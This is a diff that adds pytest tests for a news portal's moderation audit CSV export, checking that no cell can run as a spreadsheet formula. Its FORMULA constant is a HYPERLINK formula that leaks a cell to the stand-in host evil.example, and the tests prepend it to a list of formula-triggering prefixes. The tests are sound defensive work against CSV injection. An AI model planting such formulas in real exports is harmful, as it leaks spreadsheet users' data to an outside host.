@@ -1,0 +1,87 @@
+"""The moderation audit CSV opens in a spreadsheet: no cell of it may run as a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from newsportal.comments import moderation
+from newsportal.comments.moderation import _csv_safe
+from newsportal.extensions import db
+from newsportal.models import CommentAudit, User
+
+from .comment_helpers import comment_data, comments
+from .conftest import get_user
+
+FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"Xem")'
+PREFIXES = {
+    "equals": "=",
+    "plus": "+",
+    "minus": "-",
+    "at": "@",
+    "tab": "\t",
+    "carriage return": "\r",
+    "line feed": "\n",
+    "full-width equals": "\uff1d",
+    "full-width plus": "\uff0b",
+    "full-width minus": "\uff0d",
+    "full-width at": "\uff20",
+    "space then equals": " =",
+    "ideographic space then full-width equals": "\u3000\uff1d",
+    "tab then equals": "\t=",
+}
+
+
+def runs_as_formula(cell: str) -> bool:
+    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip()[:1] in tuple("=+-@＝＋－＠")
+
+
+@pytest.fixture
+def decided(app, auth, make_article):
+    """One comment rejected by a signed-in moderator: an audit row with a name and a reason."""
+    article = make_article("Lấy ý kiến về dự thảo", body="Nội dung.")
+    response = app.test_client().post(
+        f"/articles/{article.slug}/comments", data=comment_data(app, body="Ý kiến")
+    )
+    assert response.status_code == 302
+    auth.as_role("moderator")
+    with app.app_context():
+        actor = get_user(app, "moderator@example.org")
+        moderation.set_status([comments(app)[0].id], "reject", actor.id, "Lạc đề")
+        return actor.id
+
+
+def export(client) -> list[dict[str, str]]:
+    text = client.get("/moderation/audit.csv").get_data(as_text=True)
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("prefix", list(PREFIXES.values()), ids=list(PREFIXES))
+@pytest.mark.parametrize("column", ["by", "reason"])
+def test_no_cell_of_the_audit_csv_runs_as_a_formula(app, auth, decided, column, prefix):
+    hostile = prefix + FORMULA
+    with app.app_context():  # as an older version or an import may have stored it
+        if column == "by":
+            db.session.get(User, decided).email = hostile
+        else:
+            audit = db.session.scalars(db.select(CommentAudit).filter_by(actor_id=decided))
+            audit.one().reason = hostile
+        db.session.commit()
+    rows = export(auth.client)
+    (row,) = [r for r in rows if r["by"] != "system"]
+    assert row[column] == "'" + hostile  # kept whole, readable, inert
+    assert [cell for r in rows for cell in r.values() if runs_as_formula(cell)] == []
+
+
+@pytest.mark.parametrize(
+    "value", ["", "Lạc đề", "moderator@example.org", "2026-12-01T08:00:00+00:00", "12", "a=b"]
+)
+def test_ordinary_cells_are_left_as_they_are(value):
+    assert _csv_safe(value) == value
+
+
+@pytest.mark.parametrize("prefix", list(PREFIXES.values()), ids=list(PREFIXES))
+def test_one_helper_guards_every_prefix(prefix):
+    assert _csv_safe(prefix + "1+1") == "'" + prefix + "1+1"
